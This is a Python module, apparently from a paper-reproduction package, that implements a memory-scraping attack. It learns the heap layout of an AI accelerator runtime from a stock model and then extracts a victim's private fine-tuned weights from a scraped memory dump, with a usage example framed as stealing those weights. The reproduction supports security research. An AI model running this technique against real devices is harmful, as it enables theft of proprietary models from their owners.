"""Weight extraction — the paper's "and weights" claim, made concrete.

The paper's contribution 5 demonstrates "revealing sensitive
information such as input images and weights".  Recovering *stock*
library weights is uninteresting (the adversary has the library); the
threat that matters is a victim running a **fine-tuned** variant of a
library model: same architecture, private weights.

Because the runtime's buffer layout is a pure function of the
architecture (weight *shapes*, not values), the adversary can learn
each weight buffer's heap offset from the stock model and then lift
the victim's private weights from the same offsets in the scraped
dump.

:func:`profile_weight_layout` learns the offsets (own-process run with
the stock model, locating each layer's known payload in the dump);
:class:`WeightExtractor` applies them to a victim dump.

Usage — steal a fine-tuned model's private weights:

>>> from repro.attack import MemoryScrapingAttack
>>> from repro.attack.weights import WeightExtractor, profile_weight_layout
>>> from repro.evaluation.scenarios import BoardSession
>>> from repro.vitis.zoo import build_model, fine_tune
>>> session = BoardSession.boot(input_hw=32)
>>> layout = profile_weight_layout(                  # offline, stock model
...     session.attacker_shell, "resnet50_pt", input_hw=32
... )
>>> private = fine_tune(build_model("resnet50_pt", input_hw=32), seed=9)
>>> run = session.victim_application().launch("resnet50_pt", model=private)
>>> profiles = session.profile(["resnet50_pt"])
>>> attack = MemoryScrapingAttack(session.attacker_shell, profiles)
>>> report = attack.execute("resnet50_pt", terminate_victim=run.terminate)
>>> stolen = WeightExtractor(layout).extract(report.dump)
>>> stolen.match_fraction(private)                   # the victim's weights
1.0
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.attack.config import AttackConfig
from repro.attack.extraction import ScrapedDump
from repro.errors import ProfilingError, ReconstructionError
from repro.petalinux.shell import Shell
from repro.vitis.xmodel import XModel
from repro.vitis.zoo import build_model


@dataclass(frozen=True)
class WeightBufferProfile:
    """One unpacked weight buffer: where it sits and what shape it has."""

    layer_name: str
    heap_offset: int
    nbytes: int
    shapes: tuple[tuple[int, ...], ...]
    """Shapes of the arrays concatenated in this buffer (a resblock
    packs two conv kernels back to back)."""


@dataclass(frozen=True)
class WeightLayoutProfile:
    """All weight buffer offsets for one model architecture."""

    model_name: str
    buffers: tuple[WeightBufferProfile, ...]

    def total_nbytes(self) -> int:
        """Total weight payload across all buffers."""
        return sum(buffer.nbytes for buffer in self.buffers)


def profile_weight_layout(
    shell: Shell,
    model_name: str,
    input_hw: int = 32,
    config: AttackConfig | None = None,
) -> WeightLayoutProfile:
    """Learn where each layer's weights live, using the stock model.

    Runs the stock library model as the adversary's own process, scrapes
    the dump, and finds each layer's (known) weight payload.  The
    offsets transfer to any victim running the same *architecture*,
    whatever its weight values, because the deterministic arena places
    buffers by size alone.
    """
    from repro.attack.addressing import AddressHarvester
    from repro.attack.extraction import MemoryScraper
    from repro.vitis.app import VictimApplication

    config = config or AttackConfig()
    stock = build_model(model_name, input_hw=input_hw)
    run = VictimApplication(shell, input_hw=input_hw).launch(model_name)
    harvester = AddressHarvester(shell.procfs, caller=shell.user)
    harvested = harvester.harvest(run.pid)
    run.terminate()
    scraper = MemoryScraper(shell.devmem_tool, caller=shell.user, config=config)
    dump = scraper.scrape(harvested)

    buffers = []
    for layer in stock.subgraph.layers:
        payload = layer.weight_bytes()
        if not payload:
            continue
        # The payload appears twice (inside the serialized xmodel file
        # and as the unpacked buffer); the unpacked buffer is the later
        # occurrence — the one whose offset generalizes.
        first = dump.data.find(payload)
        if first < 0:
            raise ProfilingError(
                f"weights of layer {layer.name!r} not found in own dump"
            )
        second = dump.data.find(payload, first + 1)
        offset = second if second >= 0 else first
        shapes = tuple(
            array.shape
            for array in (layer.weights, layer.extra_weights)
            if array is not None
        )
        buffers.append(
            WeightBufferProfile(
                layer_name=layer.name,
                heap_offset=offset,
                nbytes=len(payload),
                shapes=shapes,
            )
        )
    if not buffers:
        raise ProfilingError(f"model {model_name} has no weight buffers")
    return WeightLayoutProfile(model_name=model_name, buffers=tuple(buffers))


def matching_bytes(left: bytes, right: bytes) -> int:
    """Positions where the two buffers hold the same byte.

    Compares the common prefix only, as ``zip`` would: bytes past the
    shorter buffer's end never match.
    """
    common = min(len(left), len(right))
    return int(
        np.count_nonzero(
            np.frombuffer(left, dtype=np.uint8, count=common)
            == np.frombuffer(right, dtype=np.uint8, count=common)
        )
    )


@dataclass(frozen=True)
class ExtractedWeights:
    """Weights lifted from a victim dump."""

    model_name: str
    arrays: dict[str, tuple[np.ndarray, ...]]

    def layer(self, name: str) -> tuple[np.ndarray, ...]:
        """The recovered arrays of one layer."""
        return self.arrays[name]

    def match_fraction(self, reference: XModel) -> float:
        """Fraction of weight bytes identical to *reference*'s layers.

        1.0 against the victim's true model proves exact recovery;
        well below 1.0 against the stock model proves the recovered
        weights are the victim's private ones, not the library's.
        """
        matched = 0
        total = 0
        for layer in reference.subgraph.layers:
            payload = layer.weight_bytes()
            if not payload or layer.name not in self.arrays:
                continue
            recovered = b"".join(
                array.tobytes() for array in self.arrays[layer.name]
            )
            total += len(payload)
            matched += matching_bytes(recovered, payload)
        if total == 0:
            raise ReconstructionError("no comparable weight buffers")
        return matched / total


class WeightExtractor:
    """Applies a weight layout profile to a victim dump."""

    def __init__(self, layout: WeightLayoutProfile) -> None:
        self._layout = layout

    def extract(self, dump: ScrapedDump) -> ExtractedWeights:
        """Lift every profiled weight buffer out of the dump."""
        arrays: dict[str, tuple[np.ndarray, ...]] = {}
        for buffer in self._layout.buffers:
            end = buffer.heap_offset + buffer.nbytes
            if end > dump.nbytes:
                raise ReconstructionError(
                    f"buffer {buffer.layer_name!r} range exceeds dump"
                )
            payload = dump.data[buffer.heap_offset : end]
            pieces = []
            cursor = 0
            for shape in buffer.shapes:
                count = int(np.prod(shape))
                pieces.append(
                    np.frombuffer(
                        payload[cursor : cursor + count], dtype=np.int8
                    ).reshape(shape).copy()
                )
                cursor += count
            arrays[buffer.layer_name] = tuple(pieces)
        return ExtractedWeights(model_name=self._layout.model_name, arrays=arrays)
